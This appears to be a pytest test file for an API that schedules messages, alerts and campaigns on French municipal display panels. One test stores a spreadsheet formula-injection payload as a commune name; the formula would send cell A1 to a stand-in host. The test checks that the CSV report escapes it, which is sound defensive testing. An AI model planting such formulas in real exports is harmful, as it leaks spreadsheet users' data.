"""Scheduling through the API: targets, windows, conflicts, playlists, alerts, campaigns and their report."""

from __future__ import annotations

import csv
import io
from datetime import datetime, timedelta
from zoneinfo import ZoneInfo

import pytest
from flask import Flask
from flask.testing import FlaskClient

from controller.domain.panels import register_panel
from controller.web.context import get_db
from relais.wire import EVENT_ON_AIR, EVENT_PLAY, EVENT_PLAY_HOURS, PanelEvent
from tests.support import DEMO_RGB, record_report, user_token

PARIS = ZoneInfo("Europe/Paris")


def paris(days: int = 0, hour: int = 0, minute: int = 0) -> datetime:
    today = datetime.now(PARIS).replace(hour=0, minute=0, second=0, microsecond=0)
    return (today + timedelta(days=days)).replace(hour=hour, minute=minute)


@pytest.fixture
def panels(app: Flask) -> None:
    """Three panels: two in Bourg-en-Bresse (01053), one in Ambérieu-en-Bugey (01004)."""
    with app.app_context():
        register_panel(get_db(), DEMO_RGB)


def playlist(client: FlaskClient, panel: str, at: datetime) -> dict:
    response = client.get(f"/api/v1/panels/{panel}/playlist", query_string={"at": at.isoformat()})
    assert response.status_code == 200, response.json
    return response.json


def on_air(client: FlaskClient, panel: str, at: datetime) -> list[str]:
    return [item["item_id"] for item in playlist(client, panel, at)["items"]]


def test_targets_by_commune_tag_and_department_are_a_union(client: FlaskClient, panels: None) -> None:
    by_commune = client.post("/api/v1/messages", json={"text": "Marché", "communes": ["01004"]})
    assert set(by_commune.json["panels"]) == {"amberieu-mairie"}
    by_tag = client.post("/api/v1/messages", json={"text": "Travaux", "tags": ["entree-de-ville"]})
    assert set(by_tag.json["panels"]) == {"bourg-entree-nord"}
    union = client.post(
        "/api/v1/messages", json={"text": "Canicule", "tags": ["entree-de-ville"], "communes": ["01004"]}
    )
    assert set(union.json["panels"]) == {"bourg-entree-nord", "amberieu-mairie"}
    department = client.post("/api/v1/messages", json={"text": "Vigilance", "departments": ["01"]})
    assert set(department.json["panels"]) == {"bourg-entree-nord", "bourg-place-bernard", "amberieu-mairie"}
    nobody = client.post("/api/v1/messages", json={"text": "Personne", "departments": ["74"]})
    assert nobody.status_code == 422 and nobody.json["error"]["field"] == "panels"


def test_a_daily_window_shows_only_in_its_hours(client: FlaskClient, panels: None) -> None:
    message = client.post(
        "/api/v1/messages",
        json={
            "text": "Sortie d'école : ralentissez",
            "panels": ["bourg-entree-nord"],
            "recurrence": {"windows": ["07:00-09:00", "16:00-19:00"]},
            "priority": "prevention",
        },
    ).json
    assert on_air(client, "bourg-entree-nord", paris(1, 8)) == [message["item_id"]]
    assert on_air(client, "bourg-entree-nord", paris(1, 17, 30)) == [message["item_id"]]
    outside = playlist(client, "bourg-entree-nord", paris(1, 12))
    assert outside["items"] == [] and outside["fallback"] == "commune-01053"
    inside = playlist(client, "bourg-entree-nord", paris(1, 8))
    assert inside["valid_from"] == paris(1, 7).astimezone(ZoneInfo("UTC")).strftime("%Y-%m-%dT%H:%M:%SZ")


def test_newest_message_first_and_urgent_preempts(client: FlaskClient, panels: None) -> None:
    first = client.post(
        "/api/v1/messages", json={"text": "Marché samedi", "panels": ["bourg-entree-nord"]}
    ).json
    # Queued in the same second: the one queued last still goes first.
    second = client.post(
        "/api/v1/messages", json={"text": "Brocante dimanche", "panels": ["bourg-entree-nord"]}
    )
    assert on_air(client, "bourg-entree-nord", paris(1, 10)) == [second.json["item_id"], first["item_id"]]
    urgent = client.post(
        "/api/v1/messages",
        json={"text": "Route barrée", "panels": ["bourg-entree-nord"], "priority": "urgent"},
    ).json
    assert on_air(client, "bourg-entree-nord", paris(1, 10)) == [urgent["item_id"]]


@pytest.mark.parametrize(
    ("extra", "status", "field"),
    [
        ({"starts_at": "2026-12-15T08:00:00"}, 400, "starts_at"),
        ({"ends_at": "2020-01-01T00:00:00+01:00"}, 422, "ends_at"),  # in the past, like the next
        ({"starts_at": "2020-01-01T00:00:00+01:00", "ends_at": "2020-01-02T00:00:00+01:00"}, 422, "ends_at"),
        ({"recurrence": {"windows": ["25:00-26:00"]}}, 400, "recurrence.windows"),
        ({"recurrence": {"weekdays": ["lundimanche"]}}, 400, "recurrence.weekdays"),
        ({"recurrence": {"only_during": ["ramadan"]}}, 400, "recurrence.only_during"),
        (
            {"recurrence": {"windows": [f"{h:02d}:00-{h:02d}:30" for h in range(24)] * 2}},
            400,
            "recurrence.windows",
        ),
        ({"recurrence": {"weekdays": ["lundi"] * 8}}, 400, "recurrence.weekdays"),
        ({"recurrence": {"except_during": ["public-holidays"] * 2}}, 400, "recurrence.except_during"),
        ({"priority": "capitale"}, 400, "priority"),
        ({"dwell_s": 0}, 400, "dwell_s"),
        ({"campaign": 999}, 422, "campaign"),
    ],
)
def test_bad_schedules_name_their_field(
    client: FlaskClient, panels: None, extra: dict, status: int, field: str
) -> None:
    response = client.post(
        "/api/v1/messages", json={"text": "Bonjour", "panels": ["bourg-entree-nord"], **extra}
    )
    assert response.status_code == status, response.json
    assert response.json["error"]["field"] == field


def test_a_recurrence_over_ten_years_is_accepted_within_the_windows_limit(
    app: Flask, client: FlaskClient, panels: None
) -> None:
    """Its whole span was expanded in the write transaction (7.6 s for ten years); now only the
    horizon is, and the number of windows a day has a limit the answer names."""
    half_hours = [f"{hour:02d}:00-{hour:02d}:30" for hour in range(24)]
    message = {"text": "Marché", "panels": ["bourg-entree-nord"], "ends_at": paris(3650).isoformat()}
    accepted = client.post("/api/v1/messages", json={**message, "recurrence": {"windows": half_hours}})
    assert accepted.status_code == 201, accepted.json
    assert on_air(client, "bourg-entree-nord", paris(1, 8, 15)) == [accepted.json["item_id"]]
    assert on_air(client, "bourg-entree-nord", paris(1, 8, 45)) == []
    listed = client.get(f"/api/v1/messages/{accepted.json['id']}").json
    assert listed["recurrence"]["windows"] == half_hours
    one_more = client.post(
        "/api/v1/messages", json={**message, "recurrence": {"windows": [*half_hours, "23:40-23:50"]}}
    )
    assert one_more.status_code == 400
    assert one_more.json["error"]["field"] == "recurrence.windows"
    assert one_more.json["error"]["message"] == "at most 24 windows a day, not 25"
    with app.app_context():
        assert get_db()["messages"].count == 1


def test_a_message_that_will_never_be_shown_is_refused(app: Flask, client: FlaskClient, panels: None) -> None:
    response = client.post(
        "/api/v1/messages",
        json={
            "text": "Joyeux Noël",
            "panels": ["bourg-entree-nord"],
            "ends_at": paris(2, 0).isoformat(),
            "recurrence": {
                "only_during": ["public-holidays"],
                "weekdays": ["dimanche"],
                "windows": ["03:00-03:10"],
            },
        },
    )
    if response.status_code == 201:  # a Sunday public holiday within two days: run again another day
        pytest.skip("a Sunday holiday falls within the test window")
    assert response.status_code == 422 and response.json["error"]["field"] == "recurrence"
    with app.app_context():
        assert get_db()["messages"].count == 0


def test_an_alert_preempts_everything_until_cancelled(app: Flask, client: FlaskClient, panels: None) -> None:
    client.post("/api/v1/messages", json={"text": "Marché de Noël", "departments": ["01"]})
    missing = client.post("/api/v1/alerts", json={"text": "Crue", "communes": ["01053"]})
    assert missing.status_code == 400 and missing.json["error"]["field"] == "expires_at"
    expires = (datetime.now(PARIS) + timedelta(hours=2)).isoformat()
    alert = client.post(
        "/api/v1/alerts", json={"text": "Crue de la Reyssouze", "communes": ["01053"], "expires_at": expires}
    )
    assert alert.status_code == 201, alert.json
    assert (alert.json["targeted"], alert.json["confirmed"]) == (2, 0)
    now = datetime.now(PARIS) + timedelta(minutes=1)
    assert on_air(client, "bourg-entree-nord", now) == [alert.json["item_id"]]
    assert alert.json["item_id"] not in on_air(client, "amberieu-mairie", now)
    with app.app_context():
        record_report(
            get_db(),
            PanelEvent("bourg-entree-nord", EVENT_ON_AIR, 0, {"item_id": alert.json["item_id"], "at": 1.0}),
            2.0,
        )
    shown = client.get(f"/api/v1/alerts/{alert.json['id']}").json
    assert shown["confirmed"] == 1
    assert {panel["id"]: bool(panel["confirmed_at"]) for panel in shown["panels"]} == {
        "bourg-entree-nord": True,
        "bourg-place-bernard": False,
    }
    assert client.delete(f"/api/v1/alerts/{alert.json['id']}").json["cancelled_at"] is not None
    assert alert.json["item_id"] not in on_air(client, "bourg-entree-nord", now)


def test_a_campaign_shows_only_where_communes_accept_and_reports_its_reach(
    app: Flask, client: FlaskClient, panels: None
) -> None:
    campaign = client.post(
        "/api/v1/campaigns",
        json={
            "name": "Sécurité routière — fêtes de fin d'année",
            "organisation": "Préfecture de l'Ain",
            "starts_at": paris(0).isoformat(),
            "ends_at": paris(20).isoformat(),
            "share": 0.34,
            "departments": ["01"],
        },
    )
    assert campaign.status_code == 201, campaign.json
    campaign_id = campaign.json["id"]
    assert {c["insee"]: c["status"] for c in campaign.json["communes"]} == {
        "01004": "pending",
        "01053": "pending",
    }
    assert {c["insee"]: c["name"] for c in campaign.json["communes"]}["01053"] == "Bourg-en-Bresse"
    assert campaign.json["organisation_name"] == "Préfecture de l'Ain"  # no such organisation: as typed
    message = client.post(
        "/api/v1/messages",
        json={
            "text": "Zéro alcool au volant",
            "departments": ["01"],
            "campaign": campaign_id,
            "layout": "text",
        },
    ).json
    client.post("/api/v1/messages", json={"text": "Marché de Noël", "departments": ["01"]})
    accepted = client.post(
        f"/api/v1/campaigns/{campaign_id}/answers", json={"commune": "01053", "status": "accepted"}
    )
    assert accepted.status_code == 200
    client.post(f"/api/v1/campaigns/{campaign_id}/answers", json={"commune": "01004", "status": "declined"})
    later = datetime.now(PARIS) + timedelta(hours=1)
    assert message["item_id"] not in on_air(client, "bourg-entree-nord", later)  # not launched yet
    assert client.post(f"/api/v1/campaigns/{campaign_id}/launch").json["launched_at"] is not None
    assert message["item_id"] in on_air(client, "bourg-entree-nord", later)
    assert message["item_id"] not in on_air(client, "amberieu-mairie", later)
    bad = client.post(
        f"/api/v1/campaigns/{campaign_id}/answers", json={"commune": "01053", "status": "peut-être"}
    )
    assert bad.status_code == 400 and bad.json["error"]["field"] == "status"

    with app.app_context():
        for start in (100.0, 200.0, 300.0):
            event = PanelEvent(
                "bourg-entree-nord",
                EVENT_PLAY,
                int(start),
                {"item_id": message["item_id"], "started_at": start, "ended_at": start + 9.0},
            )
            record_report(get_db(), event, start + 10)
        record_report(
            get_db(),
            PanelEvent(
                "bourg-entree-nord", EVENT_PLAY, 1, {"item_id": "msg-999", "started_at": 1.0, "ended_at": 5.0}
            ),
            6,
        )
        # A newer agent sums the same showings per hour: sent at stop while the hour was open, then
        # whole once closed, then the first one again, late. It counts once, the same as the plays.
        summed = {"item_id": message["item_id"], "content_hash": "sha256:" + "a" * 64, "hour": 0}
        for count, last_end in ((2, 209.0), (3, 309.0), (2, 209.0)):
            figures = {"count": count, "seconds": 9.0 * count, "first_start": 100.0, "last_end": last_end}
            event = PanelEvent(DEMO_RGB["id"], EVENT_PLAY_HOURS, 310, {**summed, **figures})
            record_report(get_db(), event, 320)
    report = client.get(f"/api/v1/campaigns/{campaign_id}/report").json
    assert report["totals"] == {
        "panels": 2,
        "communes": 1,
        "displays": 6,
        "seconds_on_air": 54,
        "hours_on_air": round(54 / 3600, 4),
    }
    from_plays, from_sums = report["panels"]
    assert (from_plays["panel"], from_sums["panel"]) == ("bourg-entree-nord", DEMO_RGB["id"])
    assert {**from_sums, "panel": "bourg-entree-nord"} == from_plays
    assert from_plays["first_display"] == "1970-01-01T00:01:40Z"
    table = client.get(f"/api/v1/campaigns/{campaign_id}/report?format=csv")
    assert table.mimetype == "text/csv"
    rows = spreadsheet_rows(table.get_data(as_text=True))
    assert rows[0][0] == "campagne" and rows[1][3] == "bourg-entree-nord" and rows[1][4] == "3"
    # Time on air and times as a French office reads them: 27 seconds, Paris time (UTC+1 in winter).
    assert rows[0][5:] == [
        "temps d'antenne",
        "premier affichage (heure de Paris)",
        "dernier affichage (heure de Paris)",
    ]
    assert rows[1][5:] == ["27\u00a0s", "01/01/1970 01:01:40", "01/01/1970 01:05:09"]
    assert (
        client.get(f"/api/v1/campaigns/{campaign_id}/report", headers={"Accept": "text/csv"}).mimetype
        == "text/csv"
    )
    assert client.post(f"/api/v1/campaigns/{campaign_id}/stop").json["stopped_at"] is not None
    assert message["item_id"] not in on_air(client, "bourg-entree-nord", later)


def test_an_invited_commune_reads_the_campaign_and_sees_it_drawn_on_its_own_panels_only(
    app: Flask, client: FlaskClient, panels: None
) -> None:
    campaign_id = client.post(
        "/api/v1/campaigns",
        json={"name": "Prévention canicule", "starts_at": paris(1).isoformat(), "ends_at": paris(9).isoformat(),
              "share": 0.25, "departments": ["01"],
              "messages": [{"title": "Canicule", "text": "Buvez de l'eau", "recurrence": {"windows": ["08:00-20:00"]}}]},
    ).json["id"]  # fmt: skip
    with app.app_context():
        commune = FlaskClient(app)
        commune.environ_base["HTTP_AUTHORIZATION"] = "Bearer " + user_token(
            get_db(), "mairie", "commune-editor", "01053"
        )
    invitation = commune.get(f"/api/v1/campaigns/{campaign_id}").json
    [content] = invitation["contents"]
    assert (content["title"], content["text"]) == ("Canicule", "Buvez de l'eau")
    assert content["recurrence"]["windows"] == ["08:00-20:00"] and content["starts_at"]
    assert content["panels"] == ["bourg-entree-nord", "bourg-place-bernard"]  # its own, none of another's
    assert "panels" not in client.get(f"/api/v1/campaigns/{campaign_id}").json["contents"][0]
    preview = commune.get(f"/api/v1/campaigns/{campaign_id}/preview.png?panel=bourg-entree-nord")
    assert preview.status_code == 200 and preview.mimetype == "image/png"
    assert (
        preview.data
        == client.get(f"/api/v1/messages/{content['id']}/preview.png?panel=bourg-entree-nord").data
    )  # the real renderer, as the panel will show it
    for query, status, field in (
        ("panel=amberieu-mairie", 404, "panel"),  # another commune's panel is not there for this commune
        ("", 400, "panel"),
        ("panel=bourg-entree-nord&message=x", 400, "message"),
        (f"panel=bourg-entree-nord&message={content['id'] + 1}", 404, "message"),
    ):
        refused = commune.get(f"/api/v1/campaigns/{campaign_id}/preview.png?{query}")
        assert (refused.status_code, refused.json["error"]["field"]) == (status, field), query


def test_a_commune_invited_later_shows_the_campaign_once_it_accepts(
    client: FlaskClient, panels: None
) -> None:
    campaign = client.post(
        "/api/v1/campaigns",
        json={"name": "Gilet jaune", "starts_at": paris(0).isoformat(), "ends_at": paris(20).isoformat(),
              "share": 0.5, "communes": ["01053"], "messages": [{"text": "Soyez vu la nuit"}]},
    ).json  # fmt: skip
    campaign_id, [content] = campaign["id"], campaign["contents"]
    invited = client.post(f"/api/v1/campaigns/{campaign_id}/invitations", json={"communes": ["01004"]})
    assert {c["insee"]: c["status"] for c in invited.json["communes"]}["01004"] == "pending"
    client.post(f"/api/v1/campaigns/{campaign_id}/answers", json={"commune": "01004", "status": "accepted"})
    client.post(f"/api/v1/campaigns/{campaign_id}/launch")
    later = datetime.now(PARIS) + timedelta(hours=1)
    assert f"msg-{content['id']}" in on_air(client, "amberieu-mairie", later)
    assert f"msg-{content['id']}" not in on_air(client, "bourg-entree-nord", later)  # Bourg has not answered


def spreadsheet_rows(text: str) -> list[list[str]]:
    """The cells of a CSV export as a French spreadsheet reads them: a byte order mark, ``;`` between cells."""
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:]), delimiter=";"))


def test_the_campaign_report_never_hands_a_formula_to_the_spreadsheet(
    app: Flask, client: FlaskClient
) -> None:
    formula = '=HYPERLINK("http://example.invalid/?"&A1;"Bourg")'
    added = client.post(
        "/api/v1/panels",
        json={
            "id": "piege",
            "name": "Piège",
            "commune_insee": "01053",
            "commune_name": formula,
            "profile": "led-red-96x16",
        },
    )
    assert added.status_code == 201, added.json
    campaign_id = client.post(
        "/api/v1/campaigns",
        json={"name": "Piège", "starts_at": paris(0).isoformat(), "ends_at": paris(20).isoformat(),
              "share": 0.5, "panels": ["piege"]},
    ).json["id"]  # fmt: skip
    message = client.post(
        "/api/v1/messages", json={"text": "Bonjour", "panels": ["piege"], "campaign": campaign_id}
    )
    with app.app_context():
        event = PanelEvent(
            "piege",
            EVENT_PLAY,
            100,
            {"item_id": message.json["item_id"], "started_at": 100.0, "ended_at": 109.0},
        )
        record_report(get_db(), event, 110)
    table = client.get(f"/api/v1/campaigns/{campaign_id}/report?format=csv").get_data(as_text=True)
    [row] = spreadsheet_rows(table)[1:]
    assert row[2:5] == ["'" + formula, "piege", "1"]


def test_a_dry_run_shows_the_resolved_panels_and_stores_nothing(
    app: Flask, client: FlaskClient, panels: None
) -> None:
    response = client.post("/api/v1/messages?dry_run=1", json={"text": "Vigilance", "communes": ["01053"]})
    assert response.status_code == 200
    assert response.json["panels"] == ["bourg-entree-nord", "bourg-place-bernard"]
    with app.app_context():
        assert get_db()["messages"].count == 0
        assert get_db()["desired"].count == 0
    refused = client.post("/api/v1/messages?dry_run=1", json={"text": "Vigilance", "communes": ["74010"]})
    assert refused.status_code == 422


def test_an_e_paper_playlist_says_when_its_refresh_limits_lengthen_dwells(
    client: FlaskClient, panels: None
) -> None:
    for number in range(4):
        client.post("/api/v1/messages", json={"text": f"Annonce n° {number}", "panels": ["amberieu-mairie"]})
    answer = playlist(client, "amberieu-mairie", paris(1, 10))
    assert len(answer["items"]) == 4
    assert all(item["dwell_s"] >= 180 for item in answer["items"])
    assert answer["notes"]
